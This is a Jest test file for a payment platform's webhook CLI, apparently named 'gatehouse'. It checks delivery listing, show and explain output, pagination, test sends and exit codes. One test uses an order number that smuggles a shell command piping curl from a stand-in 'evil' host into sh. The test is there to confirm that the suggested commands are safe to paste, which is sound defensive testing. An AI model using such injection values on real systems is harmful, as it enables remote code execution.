import { afterEach, describe, expect, test } from '@jest/globals';
import { answer, closedPort } from '../integration/webhooks/receivers.ts';
import { deadAddress, openCommandLine, widthOf } from './cli-harness.ts';
import { nobody, openWebhookCommandDesk } from './cli-webhook-desk.ts';
import type { ListedDelivery } from './cli-webhook-desk.ts';
import { shared } from '../support/shared-stack.ts';

const desk = shared(openWebhookCommandDesk, ({ stop }) => stop());
afterEach(() => desk.closeReceivers());

describe('webhook deliveries, show and explain', () => {
  test('deliveries are listed, filtered, and shown with body and attempts', async () => {
    const receiver = await desk.openReceiver();
    await desk.pay('listed-1', `${receiver.origin}/hook`);
    const { delivery_id: id } = await desk.tried(receiver);

    const listed = await desk.cli.run(
      ...['webhook', 'deliveries', desk.merchant.id, '--order-number', 'listed-1'],
    );
    const given = await desk.cli.run(
      ...['webhook', 'deliveries', desk.merchant.id, '--state', 'given_up', '--since', '1h'],
    );
    const earlier = await desk.cli.run(
      ...['webhook', 'deliveries', desk.merchant.id, '--until', '1h', '-e', 'live'],
    );
    const shown = await desk.cli.run('webhook', 'show', desk.merchant.id, id);
    const json = await desk.cli.json('webhook', 'show', desk.merchant.id, id);

    expect(listed.stdout).toMatch(
      new RegExp(`^${id} +delivered +order\\.completed +204\\nlisted-1 +1 attempt`, 'm'),
    );
    expect(given.stdout).toBe(`No deliveries match in SANDBOX, merchant ${desk.merchant.id}\n`);
    expect(earlier.stdout).toBe(`No deliveries match in PRODUCTION, merchant ${desk.merchant.id}\n`);
    expect(shown.stdout).toMatch(/^State +delivered$/m);
    expect(shown.stdout).toMatch(/^ {4}"order_number": "listed-1",$/m);
    expect(shown.stdout).toMatch(/^#1 {2}\S+Z {2}answered 204 in \d+ ms by 127\.0\.0\.1$/m);
    expect(json).toMatchObject({
      delivery_id: id,
      state: 'delivered',
      body: receiver.webhooks[0]?.body.toString(),
      attempts: [{ number: 1, result: 'delivered', status_code: 204 }],
    });
    for (const { stdout } of [listed, shown]) expect(widthOf(stdout)).toBeLessThanOrEqual(100);
  });

  test('the history of an ended order names a command that lists its deliveries and is safe to copy', async () => {
    const receiver = await desk.openReceiver();
    const orderNumber = 'x;curl${IFS}evil|sh';
    await desk.pay(orderNumber, receiver.origin);
    const { delivery_id: id } = await desk.tried(receiver);
    const withCore = await openCommandLine({
      ...desk.settingsWith(desk.stack.tokens.reader),
      GATEHOUSE_CORE_ADDRESSES: desk.stack.addresses.join(),
    });

    const { stdout } = await withCore.run('order', 'show', desk.merchant.id, orderNumber);
    const [, advised = ''] = /^gatehouse (webhook deliveries .*)$/m.exec(stdout) ?? [];
    const listed = await withCore.run(...advised.split(' '));
    await withCore.stop();

    expect(listed.stdout.match(/whd_\w+/g)).toEqual([id]);
    expect(advised).toMatch(/^[\w -]+$/);
  });

  test('lists continue after a page, and a relative time becomes an absolute one', async () => {
    const receiver = await desk.openReceiver();
    await desk.sendTest(receiver);
    await desk.sendTest(receiver);
    const to = ['--host', receiver.origin];

    const first = await desk.cli.run(
      'webhook',
      'deliveries',
      desk.merchant.id,
      ...to,
      '--since',
      '1h',
      '--limit',
      '1',
    );
    const [, token = '', since = ''] = /--page-token (\S+) --since (\S+)$/m.exec(first.stdout) ?? [];
    // The former name of the option.
    const second = await desk.cli.json(
      ...['webhook', 'deliveries', desk.merchant.id, '--endpoint', receiver.origin],
      ...['--since', since, '--page-token', token],
    );

    expect(second['deliveries']).toHaveLength(1);
    expect(first.stdout).not.toContain((second['deliveries'] as ListedDelivery[])[0]!.delivery_id);
  });

  test('the reason why a delivery waits is a sentence, with a command to paste', async () => {
    const receiver = await desk.openReceiver(answer(503, { 'retry-after': '3600' }));
    await desk.sendTest(receiver);
    const { delivery_id: id } = await desk.tried(receiver);

    const { exitCode, stdout } = await desk.cli.run('webhook', 'explain', desk.merchant.id, id);
    const json = await desk.cli.json('webhook', 'explain', desk.merchant.id, id);

    expect(exitCode).toBe(0);
    expect(stdout).toContain(`Delivery ${id} in SANDBOX is pending`);
    expect(stdout).toContain(`\n  gatehouse webhook redeliver ${desk.merchant.id} ${id}\n`);
    expect(widthOf(stdout)).toBeLessThanOrEqual(110);
    expect(json).toMatchObject({
      delivery: { delivery_id: id, state: 'pending' },
      endpoint: { endpoint: receiver.origin, state: 'open' },
      sentences: expect.any(Array),
      next_attempt_time: expect.stringMatching(/Z$/),
    });
  });

  test('an unknown delivery exits with code 3 and names the command that lists deliveries', async () => {
    const { exitCode, stderr } = await desk.cli.run('webhook', 'show', desk.merchant.id, nobody('whd'));

    expect(exitCode).toBe(3);
    expect(stderr).toContain('webhook deliveries <merchant_id>');
  });
});

describe('webhook test', () => {
  test('exits with code 0 when the receiver accepted it', async () => {
    const receiver = await desk.openReceiver();

    const { exitCode, stdout } = await desk.sendTest(receiver);

    expect(exitCode).toBe(0);
    expect(stdout).toMatch(/^The test was delivered: answered 204 in \d+ ms by 127\.0\.0\.1$/m);
    expect(JSON.parse(receiver.webhooks[0]!.body.toString())).toMatchObject({ type: 'webhook.test' });
  });

  test('exits with code 1 when the receiver refuses the event, and shows the answer', async () => {
    const receiver = await desk.openReceiver(answer(500, {}, 'no such table'));

    const { exitCode, stdout } = await desk.sendTest(receiver);

    expect(exitCode).toBe(1);
    expect(stdout).toMatch(/^The test was not delivered: answered 500 in \d+ ms by 127\.0\.0\.1$/m);
    expect(stdout).toContain('< no such table');
    expect(stdout).toContain(`webhook explain ${desk.merchant.id} whd_`);
  });

  test('prints a reason that is longer than a line in full', async () => {
    const receiver = await desk.openReceiver(answer(401));

    const { stdout } = await desk.sendTest(receiver);

    expect(stdout.replace(/\s+/g, ' ')).toContain(
      "without a login and verify their signature with the merchant's current signing secret",
    );
  });

  test('exits with code 1 when nothing listens, with the attempt in JSON', async () => {
    const url = `http://127.0.0.1:${await closedPort()}/hook`;

    const { exitCode, stdout, stderr } = await desk.cli.run(
      ...['webhook', 'test', desk.merchant.id, '--url', url, '--json'],
    );

    expect({ exitCode, stderr }).toEqual({ exitCode: 1, stderr: '' });
    expect(JSON.parse(stdout)).toMatchObject({
      state: 'pending',
      attempts: [{ result: 'connection_failed', status_code: 0 }],
    });
  });

  test('exits with code 2 for a URL that orders of that environment could not have', async () => {
    const { exitCode, stderr } = await desk.cli.run(
      ...['webhook', 'test', desk.merchant.id, '--url', 'http://shop.example/hook', '-e', 'live'],
    );

    expect(exitCode).toBe(2);
    expect(stderr).toContain(
      'the webhooks process did not accept the input\n  url: must start with https://',
    );
  });
});

test('without a webhooks process, a webhook command exits with code 5 and names the setting', async () => {
  const address = await deadAddress();
  const away = await openCommandLine(desk.settingsWith('any', address));

  const { exitCode, stderr } = await away.run('webhook', 'endpoints');
  await away.stop();

  expect(exitCode).toBe(5);
  expect(stderr).toContain(`no webhooks process answers at ${address} (nothing listens there)`);
  expect(stderr).toContain('GATEHOUSE_WEBHOOKS_ADDRESSES');
});
